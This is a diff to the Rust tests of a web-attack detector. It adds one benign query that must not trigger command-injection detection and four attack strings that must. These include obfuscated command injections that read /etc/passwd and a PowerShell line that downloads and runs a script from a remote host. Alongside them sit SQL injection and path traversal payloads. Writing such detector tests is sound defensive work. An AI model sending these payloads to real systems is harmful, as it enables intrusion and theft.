@@ -263,7 +263,7 @@ mod tests {
     #[test]
     fn real_world_requests_stay_quiet_and_their_attack_twins_fire() {
         let mut sc = PayloadScratch::new();
-        let quiet: [(Payload, &str); 17] = [
+        let quiet: [(Payload, &str); 18] = [
             (Payload::Sqli, "/torrent/4191153/The+Squid+and+the+Whale+%282005%29+720p+BRRip+750MB+-+MkvCage.html"),
             (Payload::Sqli, "/torrent/4189693/Linux+Format+-+Ubuntu+15.04+The+Definitive+guide+to+the+Latest+Version+%28June+2015%29+%28True+PDF%29.html"),
             (Payload::Sqli, "/directory/add_facet_filter?facet=os&constraint=Grouping+and+Descriptive+Categories+%3A%3A+32-bit+MS+Windows+%2895%2F98%29"),
@@ -281,6 +281,7 @@ mod tests {
             (Payload::Traversal, "/women/view/2052/%D8%A8%D8%A7%D9%84%D8%B5%D9%88%D8%B1..%D9%83%D9%8A%D9%85-%D9%83%D8%A7..%D8%B1"),
             (Payload::Sqli, "/x?q=Clark%2C+Raven-Romance_+Three+Stories+of+Lust+and+Love+%28BWWM%2C+Alpha%29.epub"),
             (Payload::Traversal, "/login?next=../account&x=../images/photo.jpg"),
+            (Payload::Cmdi, "/s?q=Sale+%7C+Last+chance%3B+more+info+%7C+users+guide&price=%245+or+less"),
         ];
         for (kind, request) in quiet {
             assert!(
@@ -289,7 +290,7 @@ mod tests {
                 kind.name()
             );
         }
-        let fire: [(Payload, &str); 19] = [
+        let fire: [(Payload, &str); 23] = [
             (Payload::Sqli, "/x?id=1+and+sleep+(5)"),
             (Payload::Sqli, "/x?id=1+and+ascii(substring(user(),1,1))>64"),
             (Payload::Sqli, "/x?id=-1+union+select+@@version"),
@@ -309,6 +310,16 @@ mod tests {
             (Payload::Cmdi, "/cgi-bin/x?c=/bin/ls"),
             (Payload::Cmdi, "/x?c=/usr/bin/id"),
             (Payload::Cmdi, "/x?c=%3B%7Bcat%2C%2Fetc%2Fpasswd%7D"),
+            (
+                Payload::Cmdi,
+                "/x?c=%24u%2Fbin%24u%2Fcat%24u+%24u%2Fetc%24u%2Fpasswd%24u",
+            ),
+            (Payload::Cmdi, "/x?c=127.0.0.1;c%24!at+/et%24!c/pas%24!swd"),
+            (Payload::Cmdi, "/x?c=;lastlog+-u+root"),
+            (
+                Payload::Cmdi,
+                "/x?c=;iex+(iwr+http://10.0.10.10:8000/x.ps1)",
+            ),
             (Payload::Traversal, "/x?f=..%c0%af..%c0%afetc%c0%afpasswd"),
             (Payload::Traversal, "/x?f=..%ef%bc%8f..%ef%bc%8fwin.ini"),
             (Payload::Traversal, "/x?f=..%5C%2F%5Cetc%5C%2F%5Cpasswd"),
